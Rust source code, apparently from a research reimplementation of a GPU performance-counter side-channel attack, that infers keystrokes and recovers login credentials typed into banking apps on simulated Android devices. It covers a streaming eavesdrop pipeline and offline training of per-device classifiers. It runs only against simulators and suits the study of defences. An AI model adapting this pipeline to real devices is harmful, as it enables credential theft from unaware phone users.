fn assemble_result(output: PipelineOutput<'_>, degradation: DegradationReport) -> SessionResult {
    let CorrectedKeys { keys, candidates, keys_before_corrections, corrections } = output.corrected;
    let recovered_text: String = keys.iter().map(|k| k.ch).collect();
    spansight::count("core.service.sessions", 1);
    spansight::count("core.service.keys_inferred", keys.len() as u64);
    SessionResult {
        model: *output.model.meta(),
        keys,
        candidates,
        keys_before_corrections,
        recovered_text,
        stats: output.stats,
        corrections,
        switches: output.switches,
        launch_at: output.launch_at,
        degradation,
        link: LinkDegradationReport::default(),
    }
}

/// The attacking service.
#[derive(Debug)]
pub struct AttackService {
    store: ModelStore,
    config: ServiceConfig,
}

impl AttackService {
    /// Creates a service with preloaded models.
    pub fn new(store: ModelStore, config: ServiceConfig) -> Self {
        AttackService { store, config }
    }

    /// The preloaded model store.
    pub fn store(&self) -> &ModelStore {
        &self.store
    }

    /// The service configuration (the wire layer's split driver shares the
    /// sampler half with its on-device client).
    pub fn config(&self) -> &ServiceConfig {
        &self.config
    }

    /// Eavesdrops the victim simulation until `until` and recovers the
    /// credential typed in the target app.
    ///
    /// This is the streaming driver: each counter read is pushed through
    /// the stage pipeline as it lands, so the full session trace is never
    /// materialised and every [`InferredKey::decided_at`] records when the
    /// pipeline actually committed to the press.
    /// [`AttackService::eavesdrop_batch`] runs the original
    /// sample-everything-then-analyse shape and returns an identical
    /// result.
    ///
    /// Device faults degrade gracefully: transient errors are retried,
    /// revoked fds reopened, lost reservations re-acquired, and counter
    /// resets re-anchored. A partial trace yields a partial
    /// [`SessionResult`] whose [`DegradationReport`] says what was lost.
    ///
    /// # Errors
    ///
    /// * [`ServiceError::Device`] only when the session never acquired a
    ///   single sample — e.g. the §9 mitigations denying everything from
    ///   the start;
    /// * [`ServiceError::UnrecognisedDevice`] when no preloaded model
    ///   matches.
    pub fn eavesdrop(
        &self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> Result<SessionResult, ServiceError> {
        let mut session_span = spansight::span("core", "service.eavesdrop");
        session_span.sim_range(sim.now().as_nanos(), until.as_nanos());
        let mut sampler = Sampler::open(sim.device(), self.config.sampler)?;
        let mut stream = sampler.start_stream(sim, until);
        let mut pipeline = Pipeline::new(&self.store, &self.config);
        // The reader loop hands samples to the analysis side through a
        // lock-free SPSC ring: fill until the ring is full (or the stream
        // ends), then drain the whole burst into the pipeline at once. In
        // this single-threaded driver the two sides run in lockstep; the
        // split-process driver (`wire::run_split_session`) runs the same
        // shape with the ring feeding the exfiltration batcher instead.
        let (mut ring_tx, mut ring_rx) = crate::ring::spsc::<Sample>(SAMPLE_RING_CAPACITY);
        let mut burst: Vec<Sample> = Vec::with_capacity(ring_tx.capacity());
        loop {
            let mut stream_done = false;
            while !ring_tx.is_full() {
                match sampler.next_sample(&mut stream, sim) {
                    Some(sample) => {
                        ring_tx.push(sample).expect("a non-full SPSC ring accepts a push");
                    }
                    None => {
                        stream_done = true;
                        break;
                    }
                }
            }
            burst.clear();
            ring_rx.drain_into(&mut burst);
            pipeline.push_samples(&burst);
            if stream_done {
                break;
            }
        }
        sampler.finish_stream(stream)?;
        pipeline.finish(&sampler.report())
    }

    /// The original batch driver: samples the whole session into a
    /// [`Trace`], then analyses it with [`AttackService::process_trace`].
    /// Kept as the reference the streaming driver is tested against, and
    /// as the shape whose end-of-session decision times the `latency`
    /// experiment compares.
    ///
    /// # Errors
    ///
    /// Same contract as [`AttackService::eavesdrop`].
    pub fn eavesdrop_batch(
        &self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> Result<SessionResult, ServiceError> {
        let mut session_span = spansight::span("core", "service.eavesdrop");
        session_span.sim_range(sim.now().as_nanos(), until.as_nanos());
        let stage = spansight::span("core", "service.sample");
        let mut sampler = Sampler::open(sim.device(), self.config.sampler)?;
        let trace = sampler.sample_until(sim, until)?;
        drop(stage);
        self.process_trace(&trace, &sampler.report())
    }

    /// Runs the analysis half of the pipeline over an already-recorded
    /// trace as whole-trace batch passes (extract → recognise → gate →
    /// filter → infer → correct).
    ///
    /// # Errors
    ///
    /// [`ServiceError::UnrecognisedDevice`] /
    /// [`ServiceError::LaunchNotDetected`] as in
    /// [`AttackService::eavesdrop`]; never [`ServiceError::Device`] (the
    /// device is out of the picture by now).
    pub fn process_trace(
        &self,
        trace: &Trace,
        report: &SamplerReport,
    ) -> Result<SessionResult, ServiceError> {
        let stage = spansight::span("core", "service.extract");
        let (deltas, counter_resets) = extract_deltas_with_resets(trace);
        drop(stage);
        let degradation = DegradationReport::from_sampler(report, counter_resets);

        let stage = spansight::span("core", "service.recognize");
        let model = self.store.recognize(&deltas).ok_or(ServiceError::UnrecognisedDevice)?;
        drop(stage);

        // §3.2: optionally wait for the target app's cold-launch burst and
        // ignore everything before it.
        let mut launch_at = None;
        let deltas: Vec<Delta> = if self.config.require_launch {
            let detector = crate::launch::LaunchDetector::new(*model.launch_signature());
            let at = detector.detect(&deltas).ok_or(ServiceError::LaunchNotDetected)?;
            launch_at = Some(at);
            deltas.into_iter().filter(|d| d.at > at).collect()
        } else {
            deltas
        };

        // §5.2: drop everything produced outside the target app, and note
        // when the victim returns (the cursor-blink timer restarts then).
        let stage = spansight::span("core", "service.switch_filter");
        let mut switch =
            SwitchDetector::new(SwitchConfig::with_threshold(model.switch_threshold()));
        let mut in_target: Vec<Delta> = Vec::with_capacity(deltas.len());
        let mut returns: Vec<SimInstant> = Vec::new();
        for d in &deltas {
            match switch.feed(d) {
                SwitchOutcome::Typing { returned_at } => {
                    if let Some(t) = returned_at {
                        returns.push(t);
                    }
                    in_target.push(*d);
                }
                SwitchOutcome::Filtered => {}
            }
        }
        if let Some(t) = switch.finish() {
            returns.push(t);
        }
        drop(stage);

        // §5.1: Algorithm 1 (candidate lists retained for guessing). Both
        // variants derive candidates from the observed feature vector.
        let stage = spansight::span("core", "service.infer");
        let mut infer = if self.config.full_trace {
            InferStage::lookahead(model, self.config.online)
        } else {
            InferStage::greedy(model, self.config.online)
        };
        let events = crate::stage::run_to_vec(&mut infer, in_target.iter().copied());
        let stats = infer.stats();
        drop(stage);

        // §5.3: corrections from the echo stream, re-anchoring the blink
        // grid at every detected return to the target app. The stage
        // applies each queued return before the first noise change at or
        // after it, so queueing them all up front reproduces the
        // timestamp-ordered interleave.
        let stage = spansight::span("core", "service.corrections");
        let mut correction = CorrectionStage::new(
            model.ambient_signatures().to_vec(),
            self.config.correction,
            self.config.echo_corroboration,
        );
        for t in returns {
            correction.push_return(t);
        }
        let mut sink = Vec::new();
        for ev in events {
            correction.push(ev, &mut sink);
        }
        correction.finish(&mut sink);
        let corrected = correction.into_corrected();
        drop(stage);

        let output = PipelineOutput {
            model,
            launch_at,
            switches: switch.switches_detected(),
            stats,
            corrected,
        };
        Ok(assemble_result(output, degradation))
    }

    /// Runs the streaming pipeline over an already-recorded trace —
    /// [`AttackService::process_trace`] in stage form. Exists so the
    /// streaming/batch equivalence can be tested without a live simulation.
    ///
    /// # Errors
    ///
    /// Same contract as [`AttackService::process_trace`].
    pub fn process_trace_streaming(
        &self,
        trace: &Trace,
        report: &SamplerReport,
    ) -> Result<SessionResult, ServiceError> {
        let mut session = self.streaming_session();
        for s in trace.iter() {
            session.push_sample(s);
        }
        session.finish(report)
    }

    /// Begins an incremental analysis session: the push-based half of
    /// [`AttackService::eavesdrop`], decoupled from the sampler so a remote
    /// process (the wire layer's classifier server) can feed it samples as
    /// they arrive off a transport.
    pub fn streaming_session(&self) -> StreamingSession<'_> {
        StreamingSession { pipeline: Pipeline::new(&self.store, &self.config) }
    }

    /// Begins an incremental session pinned to the model with the given
    /// content digest — the wire path, where the client's `Hello` names its
    /// model by digest and recognition is skipped entirely.
    ///
    /// # Errors
    ///
    /// [`ServiceError::ModelDigestMismatch`] when no loaded model has that
    /// digest: the mismatch is a typed, attributable failure instead of a
    /// session silently classified with the wrong model.
    pub fn streaming_session_for(
        &self,
        digest: &crate::registry::ModelDigest,
    ) -> Result<StreamingSession<'_>, ServiceError> {
        let handle =
            self.store.find_digest(digest).ok_or(ServiceError::ModelDigestMismatch(*digest))?;
        Ok(StreamingSession {
            pipeline: Pipeline::pinned(&self.store, &self.config, handle.model()),
        })
    }
}

/// An in-flight incremental analysis session (see
/// [`AttackService::streaming_session`]).
///
/// Push samples in timestamp order, drain freshly committed presses at any
/// point (the wire layer streams them back to the sampler side for latency
/// measurement), and finish with the sampler's report to assemble the
/// [`SessionResult`].
pub struct StreamingSession<'s> {
    pipeline: Pipeline<'s>,
}

impl StreamingSession<'_> {
    /// Feeds one counter sample through the stage pipeline.
    pub fn push_sample(&mut self, sample: Sample) {
        self.pipeline.push_sample(sample);
    }

    /// Feeds a burst of samples (in timestamp order) through the stage
    /// pipeline in one pass — same results as pushing them one by one, but
    /// the routing and classification costs are amortised across the
    /// burst. The wire layer's classifier server uses this to process each
    /// received exfiltration batch whole.
    pub fn push_samples(&mut self, samples: &[Sample]) {
        self.pipeline.push_samples(samples);
    }

    /// Moves presses committed since the last drain into `out`. The full
    /// per-session sequence equals `keys_before_corrections` of the final
    /// result (corrections are only applied at session end).
    pub fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
        self.pipeline.drain_new_keys(out);
    }

    /// Flushes every stage and assembles the session result.
    ///
    /// # Errors
    ///
    /// Same contract as [`AttackService::process_trace`].
    pub fn finish(self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
        self.pipeline.finish(report)
    }
}

#[cfg(test)]
mod tests {
    // End-to-end service tests need a trained model and live in
    // `tests/attack_e2e.rs` and `tests/streaming_equivalence_e2e.rs`; unit
    // tests here cover the error plumbing.
    use super::*;

    #[test]
    fn empty_store_is_unrecognised() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(1));
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::UnrecognisedDevice);
    }

    #[test]
    fn mitigated_device_reports_device_error() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(2));
        sim.device().set_policy(kgsl::AccessPolicy::DenyAll);
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::Device(Errno::Eacces));
    }

    #[test]
    fn batch_driver_matches_streaming_on_empty_store() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(3));
        let err = service.eavesdrop_batch(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::UnrecognisedDevice);
    }

    #[test]
    fn errors_display() {
        assert!(ServiceError::UnrecognisedDevice.to_string().contains("no preloaded model"));
        assert!(ServiceError::Device(Errno::Eacces).to_string().contains("EACCES"));
    }
}
