//! The offline phase: training classification models (§3.2, §6).
//!
//! The attacker owns devices identical to the victims'. A bot emulates
//! every key press while the sampler records counter changes; the labelled
//! changes become per-key centroids, the unlabelled ones become the noise
//! exemplars that calibrate the acceptance threshold `C_th` ("decided
//! accordingly to eliminate any false positives", §5.1).
//!
//! One [`ClassifierModel`] is trained per `(phone, OS, resolution, refresh,
//! keyboard)` configuration; the [`ModelStore`] ships them all inside the
//! attacking app (§7.6: ≈3.6 kB each) and recognises which one matches the
//! victim device at run time from the keyboard's base-redraw fingerprint.

use std::collections::HashMap;
use std::sync::Arc;

use adreno_sim::counters::{CounterSet, NUM_TRACKED};
use adreno_sim::font::FIG18_CHARSET;
use adreno_sim::memo::render_cached;
use adreno_sim::time::{SimDuration, SimInstant};
use android_ui::apps::LoginScreen;
use android_ui::compositor::KeyboardWindow;
use android_ui::sim::{SimConfig, UiSimulation};
use android_ui::{DeviceConfig, KeyboardKind, TargetApp};
use bytes::{Buf, BufMut, Bytes, BytesMut};

use crate::classify::{ClassifierModel, KeyCentroid, ModelDecodeError, ModelMeta};
use crate::registry::{ModelDigest, ModelHandle, Quantization};
use crate::sampler::{Sampler, SamplerConfig};
use crate::stage::Stage;
use crate::trace::{extract_deltas, Delta};

/// Maximum relative-L1 distance between an observed change and a model's
/// keyboard-redraw fingerprint for recognition (§3.2) to accept the match.
///
/// A true fingerprint is a deterministic re-render of the trained keyboard
/// base frame, so it scores at zero — or within a few tenths of a percent
/// when a dropped read merged it with a blink/echo frame. The closest
/// impostor observed is the keyboard *show* burst, which lands near (but
/// above) 0.005 against the wrong configuration's fingerprint. The
/// threshold sits between the two so that the first matching change can
/// decide on its own — which is what lets recognition commit mid-stream
/// instead of scanning the whole session.
const RECOGNITION_THRESHOLD: f64 = 0.005;

/// Trainer configuration.
#[derive(Debug, Clone)]
pub struct TrainerConfig {
    /// Repetitions per key during calibration (more reps → the modal
    /// sample wins over occasional split-corrupted ones).
    pub reps: usize,
    /// The sampler interval used for calibration (must match the online
    /// interval for the deltas to align).
    pub interval: SimDuration,
    /// Characters to train, default the full Fig 18 set.
    pub charset: String,
    /// Safety factor applied below the closest noise exemplar when fixing
    /// `C_th`.
    pub threshold_margin: f64,
    /// Optional counter mask for the counter-subset ablation: masked-out
    /// counters get zero weight in the distance metric before `C_th`
    /// calibration. `None` keeps all eleven counters.
    pub counter_mask: Option<[bool; NUM_TRACKED]>,
}

impl Default for TrainerConfig {
    fn default() -> Self {
        TrainerConfig {
            reps: 5,
            interval: SimDuration::from_millis(8),
            charset: FIG18_CHARSET.to_owned(),
            threshold_margin: 0.6,
            counter_mask: None,
        }
    }
}

/// How long after a press the popup change may arrive (vsync + read
/// latency).
const POPUP_WINDOW: SimDuration = SimDuration::from_millis(35);
/// Changes within this window of a press are press-related (popup, split
/// fragments, duplicated animation frames) and excluded from the noise
/// exemplars.
const PRESS_EXCLUSION: SimDuration = SimDuration::from_millis(95);

/// The offline trainer.
#[derive(Debug, Default)]
pub struct Trainer {
    config: TrainerConfig,
}

impl Trainer {
    /// Creates a trainer with the given configuration.
    pub fn new(config: TrainerConfig) -> Self {
        Trainer { config }
    }

    /// Trains a model for one device/keyboard/app configuration by driving
    /// the calibration bot through the full character set.
    ///
    /// # Panics
    ///
    /// Panics if calibration produces no labelled sample for some character
    /// (which would mean the substrate lost popup frames entirely).
    pub fn train(
        &self,
        device: DeviceConfig,
        keyboard: KeyboardKind,
        app: TargetApp,
    ) -> ClassifierModel {
        let _span = spansight::span("core", "offline.train");
        spansight::count("core.offline.models_trained", 1);
        let sim_config = SimConfig {
            device,
            keyboard,
            app,
            seed: 0xCA11B,
            gpu_load: 0.0,
            cpu_load: 0.0,
            system_noise_hz: 0.0,
            popups_enabled: true,
            start_in_other: false,
            obfuscation: None,
        };
        let mut sim = UiSimulation::new(sim_config);
        let plan = input_bot::script::calibration_taps(
            self.config.charset.chars(),
            self.config.reps,
            SimInstant::from_millis(800),
        );
        let end = plan.end + SimDuration::from_millis(800);
        sim.queue_all(plan.events);

        let sampler_cfg = SamplerConfig {
            interval: self.config.interval,
            seed: 1,
            ..SamplerConfig::default_8ms()
        };
        let mut sampler =
            Sampler::open(sim.device(), sampler_cfg).expect("stock policy allows sampling");
        let trace = sampler.sample_until(&mut sim, end).expect("stock policy allows reads");
        let deltas = extract_deltas(&trace);
        let presses = sim.truth().keystrokes();

        // Label: the first change within (t, t+POPUP_WINDOW] of each press.
        let mut samples: HashMap<char, Vec<CounterSet>> = HashMap::new();
        for &(t, c) in &presses {
            if let Some(d) =
                deltas.iter().find(|d| d.at > t && d.at.saturating_since(t) <= POPUP_WINDOW)
            {
                samples.entry(c).or_default().push(d.values);
            }
        }

        let mut centroids: Vec<KeyCentroid> = Vec::with_capacity(samples.len());
        for c in self.config.charset.chars() {
            if c == ' ' {
                continue; // space has no popup; it is tracked via echoes
            }
            let vals = samples
                .get(&c)
                .unwrap_or_else(|| panic!("no calibration sample captured for {c:?}"));
            centroids.push(KeyCentroid { ch: c, values: modal(vals) });
        }

        // Whitening weights from inter-centroid spread (optionally masked
        // to a counter subset for the ablation study).
        let mut weights = whitening_weights(&centroids);
        if let Some(mask) = self.config.counter_mask {
            for (w, keep) in weights.iter_mut().zip(mask) {
                if !keep {
                    *w = 0.0;
                }
            }
        }

        // Signatures computed from the attacker's own (identical) hardware.
        // These draw lists are identical across every training run for the
        // same configuration, so they go through the render memo cache.
        let params = device.gpu().params();
        let kb_signature = KeyboardWindow::new(keyboard, &device, true).draw();
        let kb_signature = render_cached(&kb_signature, &params).totals;
        let login = LoginScreen::new(app, &device);
        // Field-region redraw signatures for every anticipated input
        // length, cursor off and on. They drive the §5.3 correction
        // detector and the ambient-signature peeling step; text cells cross
        // supertile boundaries, so each length is rendered exactly rather
        // than extrapolated.
        let max_len = 22.min(login.max_cells());
        let mut field_signatures = Vec::with_capacity((max_len + 1) * 2);
        for len in 0..=max_len {
            field_signatures
                .push(render_cached(&login.draw_field_update(len, false), &params).totals);
            field_signatures
                .push(render_cached(&login.draw_field_update(len, true), &params).totals);
        }
        let app_signature = render_cached(&login.draw_field_update(0, true), &params).totals;
        // Cold launch renders the full login screen, the keyboard and the
        // status bar on one vsync: their merged delta is the launch burst.
        let launch_signature = render_cached(&login.draw(0, true, 0.0), &params).totals
            + kb_signature
            + render_cached(&android_ui::StatusBar::new(&device).draw(), &params).totals;
        // App-switch bursts dwarf any window redraw; three keyboard frames
        // is a robust floor.
        let switch_threshold = kb_signature.total() * 3;

        // C_th from the closest noise exemplar.
        let provisional = ClassifierModel::new(
            ModelMeta {
                phone: device.phone,
                android: device.android,
                resolution: device.resolution,
                refresh: device.refresh,
                keyboard,
                app,
            },
            centroids.clone(),
            weights,
            1.0, // placeholder threshold; replaced below
            kb_signature,
            app_signature,
            field_signatures.clone(),
            launch_signature,
            switch_threshold,
        );
        let mut min_noise = f64::INFINITY;
        'noise: for d in &deltas {
            for &(t, _) in &presses {
                if d.at > t && d.at.saturating_since(t) <= PRESS_EXCLUSION {
                    continue 'noise; // press-related, not noise
                }
            }
            let (_, dist) = provisional.nearest(&d.values);
            if dist < min_noise {
                min_noise = dist;
            }
        }
        let threshold = if min_noise.is_finite() {
            (min_noise * self.config.threshold_margin).max(1e-6)
        } else {
            1.0
        };

        ClassifierModel::new(
            *provisional.meta(),
            centroids,
            weights,
            threshold,
            kb_signature,
            app_signature,
            field_signatures,
            launch_signature,
            switch_threshold,
        )
    }
}

/// Picks the best centroid estimate from repeated samples of one key.
///
/// The genuine popup frame repeats *exactly* across repetitions, while the
/// two corruption modes do not: a split read observes a partial frame whose
/// size depends on the read phase, and an animation overlay (e.g. PNC's
/// login animation) adds a phase-dependent extra cost. So the value with
/// the most exact duplicates is the true frame. If nothing repeats, fall
/// back to the largest-total sample (splits are always smaller than the
/// frame they truncate).
fn modal(vals: &[CounterSet]) -> CounterSet {
    // The largest value that repeats exactly. Split fragments can repeat
    // (the read phase recurs at the calibration cadence) but are strict
    // subsets of the frame they truncate, so the full frame — which repeats
    // whenever at least two repetitions are clean — always has the larger
    // total. Animation-contaminated samples are larger but phase-dependent
    // and never repeat.
    let repeating = vals
        .iter()
        .filter(|v| vals.iter().filter(|o| o == v).count() >= 2)
        .max_by_key(|v| v.total());
    match repeating {
        Some(v) => *v,
        // Nothing repeats: fall back to the largest sample (splits are
        // always smaller than the frame they truncate).
        None => *vals.iter().max_by_key(|v| v.total()).expect("non-empty"),
    }
}

/// Per-counter whitening weights: `1 / max(spread, 1)` where spread is the
/// standard deviation of that counter across centroids.
fn whitening_weights(centroids: &[KeyCentroid]) -> [f64; NUM_TRACKED] {
    let n = centroids.len().max(1) as f64;
    let mut mean = [0.0f64; NUM_TRACKED];
    for c in centroids {
        for (i, v) in c.values.as_array().iter().enumerate() {
            mean[i] += *v as f64 / n;
        }
    }
    let mut var = [0.0f64; NUM_TRACKED];
    for c in centroids {
        for (i, v) in c.values.as_array().iter().enumerate() {
            let d = *v as f64 - mean[i];
            var[i] += d * d / n;
        }
    }
    let mut w = [0.0f64; NUM_TRACKED];
    for i in 0..NUM_TRACKED {
        w[i] = 1.0 / var[i].sqrt().max(1.0);
    }
    w
}

/// The preloaded collection of per-configuration models (§7.6 discusses
/// shipping thousands of them in a 13 MB app).
///
/// Since the registry refactor the store is a thin view over
/// [`ModelHandle`]s: each entry carries its canonical GPMR encoding, its
/// content digest and the lazily decoded model. Cloning a store (e.g. to
/// hand one to each of many concurrent attack services) shares both blobs
/// and decoded models instead of copying them. Equality is digest equality
/// (handles compare by content address).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ModelStore {
    models: Vec<ModelHandle>,
}

impl ModelStore {
    /// An empty store.
    pub fn new() -> Self {
        ModelStore::default()
    }

    /// Adds a trained model, wrapping it in a bit-exact (`f64`) handle.
    pub fn add(&mut self, model: ClassifierModel) {
        self.add_shared(Arc::new(model));
    }

    /// Adds an already-shared model without copying it.
    pub fn add_shared(&mut self, model: Arc<ClassifierModel>) {
        self.models.push(ModelHandle::from_arc(model, Quantization::F64));
    }

    /// Adds a registry handle directly — the fleet path: hub and shards
    /// share one handle (one blob, one decoded `Arc`) instead of cloning
    /// models.
    pub fn add_handle(&mut self, handle: ModelHandle) {
        self.models.push(handle);
    }

    /// The model handles.
    pub fn handles(&self) -> &[ModelHandle] {
        &self.models
    }

    /// Number of models.
    pub fn len(&self) -> usize {
        self.models.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.models.is_empty()
    }

    /// Total serialized size of all models, in bytes. Encoded sizes are
    /// cached on the handles at insert time, so this is a sum over integers
    /// — the old implementation re-serialised every model per call.
    pub fn total_wire_bytes(&self) -> usize {
        self.models.iter().map(ModelHandle::encoded_len).sum()
    }

    /// Serialises the whole store (length-prefixed GPMR blobs). The blobs
    /// are re-served straight from the handles — nothing is re-encoded.
    pub fn to_bytes(&self) -> Bytes {
        let mut b = BytesMut::new();
        b.put_u32(self.models.len() as u32);
        for h in &self.models {
            b.put_u32(h.encoded_len() as u32);
            b.put_slice(h.blob());
        }
        b.freeze()
    }

    /// Deserialises a store, validating every blob (eager decode — this is
    /// the untrusted path).
    ///
    /// # Errors
    ///
    /// Returns the first model's decode error, or `Truncated` on framing
    /// problems.
    pub fn from_bytes(mut data: Bytes) -> Result<Self, ModelDecodeError> {
        if data.remaining() < 4 {
            return Err(ModelDecodeError::Truncated);
        }
        let n = data.get_u32() as usize;
        let mut models = Vec::with_capacity(n);
        for _ in 0..n {
            if data.remaining() < 4 {
                return Err(ModelDecodeError::Truncated);
            }
            let len = data.get_u32() as usize;
            if data.remaining() < len {
                return Err(ModelDecodeError::Truncated);
            }
            let body = data.split_to(len);
            models.push(ModelHandle::from_blob(body)?);
        }
        Ok(ModelStore { models })
    }

    /// Recognises the victim configuration from observed changes (§3.2):
    /// every keyboard redraw matches exactly one model's base-redraw
    /// fingerprint, and the *first* change within the recognition
    /// threshold of a fingerprint decides. `None` when no observed change
    /// is close to any fingerprint.
    ///
    /// First-match is deliberately the same rule [`RecognizeStage`] applies
    /// one change at a time, so batch and streaming recognition agree by
    /// construction.
    pub fn recognize(&self, deltas: &[Delta]) -> Option<&ClassifierModel> {
        deltas.iter().find_map(|d| {
            self.score_change(d).filter(|(_, s)| *s < RECOGNITION_THRESHOLD).map(|(m, _)| m)
        })
    }

    /// Scores one observed change against every model's keyboard-redraw
    /// fingerprint: the best `(model, relative-L1 score)` pair, ties going
    /// to the earlier model. `None` only when the store is empty.
    fn score_change(&self, delta: &Delta) -> Option<(&ClassifierModel, f64)> {
        let mut best: Option<(&ClassifierModel, f64)> = None;
        for m in self.models.iter().map(ModelHandle::model) {
            let sig = m.kb_signature();
            let sig_norm = sig.total().max(1) as f64;
            let mut l1 = 0.0;
            for (a, b) in delta.values.as_array().iter().zip(sig.as_array()) {
                l1 += (*a as f64 - *b as f64).abs();
            }
            let score = l1 / sig_norm;
            if best.is_none_or(|(_, s)| score < s) {
                best = Some((m, score));
            }
        }
        best
    }

    /// Finds the model trained for an exact configuration.
    pub fn find(&self, device: &DeviceConfig, keyboard: KeyboardKind) -> Option<&ClassifierModel> {
        self.models
            .iter()
            .map(ModelHandle::model)
            .find(|m| m.meta().device_config() == *device && m.meta().keyboard == keyboard)
    }

    /// Finds the handle whose content digest matches — how the wire server
    /// resolves a `Hello`-pinned model. `None` is a digest mismatch, which
    /// surfaces as a typed error rather than a misclassification.
    pub fn find_digest(&self, digest: &ModelDigest) -> Option<&ModelHandle> {
        self.models.iter().find(|h| h.digest() == *digest)
    }
}

/// Streaming device recognition (§3.2) as a [`Stage`]: buffers the warm-up
/// prefix of the change stream until some change lands within the
/// recognition threshold of a model's keyboard-redraw fingerprint, then
/// flushes the whole buffered prefix downstream (recognition only *names*
/// the configuration — the prefix still carries the launch burst and any
/// early presses) and passes everything through from then on.
///
/// Until recognition succeeds nothing leaves the stage; a session that ends
/// unrecognised leaves [`RecognizeStage::model`] as `None` and the driver
/// reports [`crate::service::ServiceError::UnrecognisedDevice`].
#[derive(Debug)]
pub struct RecognizeStage<'s> {
    store: &'s ModelStore,
    warmup: Vec<Delta>,
    chosen: Option<&'s ClassifierModel>,
}

impl<'s> RecognizeStage<'s> {
    /// A fresh recognizer over a preloaded store.
    pub fn new(store: &'s ModelStore) -> Self {
        RecognizeStage { store, warmup: Vec::new(), chosen: None }
    }

    /// A recognizer pre-committed to `model` — the digest-pinned wire path,
    /// where the client's `Hello` already named the model by content
    /// address. Every change passes straight through. Output is identical
    /// to the recognition path: recognition buffers the warm-up prefix only
    /// to flush all of it downstream on the first match, so the delta
    /// sequence the downstream stages see is the same either way.
    pub fn pinned(store: &'s ModelStore, model: &'s ClassifierModel) -> Self {
        RecognizeStage { store, warmup: Vec::new(), chosen: Some(model) }
    }

    /// The recognised model, once some change matched a fingerprint.
    pub fn model(&self) -> Option<&'s ClassifierModel> {
        self.chosen
    }
}

impl Stage for RecognizeStage<'_> {
    type In = Delta;
    type Out = Delta;

    fn push(&mut self, input: Delta, out: &mut Vec<Delta>) {
        if self.chosen.is_some() {
            out.push(input);
            return;
        }
        if let Some((m, score)) = self.store.score_change(&input) {
            if score < RECOGNITION_THRESHOLD {
                self.chosen = Some(m);
                out.append(&mut self.warmup);
                out.push(input);
                return;
            }
        }
        self.warmup.push(input);
    }

    fn finish(&mut self, _out: &mut Vec<Delta>) {
        // An unrecognised session's warm-up buffer is discarded: with no
        // model there is nothing downstream to consume it.
        self.warmup.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::TrackedCounter;

    // Full training runs live in the integration tests (they are slower);
    // unit tests cover the pure helpers and the store.

    fn set(v: u64) -> CounterSet {
        let mut c = CounterSet::ZERO;
        c[TrackedCounter::Ras8x4Tiles] = v;
        c
    }

    #[test]
    fn modal_prefers_largest_repeating_value() {
        let vals = [set(100), set(101), set(100), set(100), set(101)];
        assert_eq!(modal(&vals), set(101), "both repeat; the larger is the full frame");
    }

    #[test]
    fn modal_resists_repeating_split_fragments() {
        // A fragment that repeats three times must not outvote the full
        // frame repeating twice: the full frame is strictly larger.
        let vals = [set(60), set(100), set(60), set(100), set(60)];
        assert_eq!(modal(&vals), set(100));
    }

    #[test]
    fn modal_ignores_split_fragments_even_in_the_majority() {
        // Three split-corrupted samples (smaller totals, all distinct) must
        // not outvote the two genuine, identical full frames.
        let vals = [set(40), set(100), set(55), set(100), set(61)];
        assert_eq!(modal(&vals), set(100));
    }

    #[test]
    fn modal_ignores_animation_contaminated_samples() {
        // Animation overlays make contaminated samples *larger* but
        // phase-dependent (distinct); the repeating clean frame wins.
        let vals = [set(160), set(100), set(149), set(100), set(171)];
        assert_eq!(modal(&vals), set(100));
    }

    #[test]
    fn modal_falls_back_to_largest_when_nothing_repeats() {
        let vals = [set(40), set(90), set(71)];
        assert_eq!(modal(&vals), set(90));
    }

    #[test]
    fn modal_singleton() {
        assert_eq!(modal(&[set(7)]), set(7));
    }

    #[test]
    fn whitening_weights_shrink_high_variance_dims() {
        let centroids = vec![
            KeyCentroid { ch: 'a', values: set(100) },
            KeyCentroid { ch: 'b', values: set(300) },
        ];
        let w = whitening_weights(&centroids);
        let i = TrackedCounter::Ras8x4Tiles.index();
        assert!(w[i] < 0.02, "spread 100 → weight 1/100");
        // Zero-variance dims get weight 1.
        let j = TrackedCounter::VpcPcPrimitives.index();
        assert_eq!(w[j], 1.0);
    }

    #[test]
    fn store_round_trips() {
        use crate::classify::{KeyCentroid, ModelMeta};
        use android_ui::{AndroidVersion, PhoneModel, RefreshRate, Resolution};
        let meta = ModelMeta {
            phone: PhoneModel::OnePlus8Pro,
            android: AndroidVersion::V11,
            resolution: Resolution::Fhd,
            refresh: RefreshRate::Hz60,
            keyboard: KeyboardKind::Gboard,
            app: TargetApp::Chase,
        };
        let m = ClassifierModel::new(
            meta,
            vec![KeyCentroid { ch: 'x', values: set(42) }],
            [1.0; NUM_TRACKED],
            5.0,
            set(17),
            set(1000),
            vec![set(20), set(24)],
            set(5000),
            10_000,
        );
        let mut store = ModelStore::new();
        store.add(m.clone());
        store.add(m);
        let bytes = store.to_bytes();
        let back = ModelStore::from_bytes(bytes).unwrap();
        assert_eq!(back, store);
        assert_eq!(back.len(), 2);
        assert!(store.total_wire_bytes() > 0);
    }

    #[test]
    fn empty_store_recognizes_nothing() {
        let store = ModelStore::new();
        assert!(store.recognize(&[]).is_none());
        assert!(store.is_empty());
    }

    #[test]
    fn from_bytes_rejects_truncation() {
        assert_eq!(
            ModelStore::from_bytes(Bytes::from_static(b"\x00")),
            Err(ModelDecodeError::Truncated)
        );
        assert_eq!(
            ModelStore::from_bytes(Bytes::from_static(b"\x00\x00\x00\x02\x00\x00\x00\x10")),
            Err(ModelDecodeError::Truncated)
        );
    }
}
